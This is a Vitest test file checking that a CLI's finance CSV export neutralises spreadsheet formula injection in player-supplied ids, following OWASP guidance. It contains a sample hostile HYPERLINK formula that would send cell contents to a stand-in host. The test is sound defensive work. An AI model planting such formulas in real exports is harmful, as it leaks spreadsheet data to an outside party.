/**
 * The CSV that finance opens in a spreadsheet: ids are whatever a player sent, so a cell that a
 * spreadsheet would evaluate as a formula is written as text (OWASP, CSV injection).
 */
import { describe, expect, it } from 'vitest';
import { csvText, statementCsv } from '../../cli/commands/report.js';

describe('CSV', () => {
  it('writes ids a spreadsheet would take for formulas as text, quotes what RFC 4180 says, and numbers as they are', () => {
    const hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';
    const csv = statementCsv([{ series_id: hostile, minutes_watched: 10, share_of_month: 0.5, pings: 12, days_watched: 1 },
      { series_id: '@SUM(A1:A9)', minutes_watched: 10, share_of_month: 0.5, pings: 11, days_watched: 1 }]);
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")",10,0.5,12,1,month,`);
    expect(lines[2]).toBe(`'@SUM(A1:A9),10,0.5,11,1,month,`);
    for (const first of ['+1', '-1', '\tx']) expect(csvText(['a'], [[first]]).split('\r\n')[1]).toBe(first === '\tx' ? "'\tx" : `'${first}`);
    // Negative numbers stay numbers; plain ids stay as sent.
    expect(csvText(['a', 'b'], [[-5, 's1']]).split('\r\n')[1]).toBe('-5,s1');
  });
});
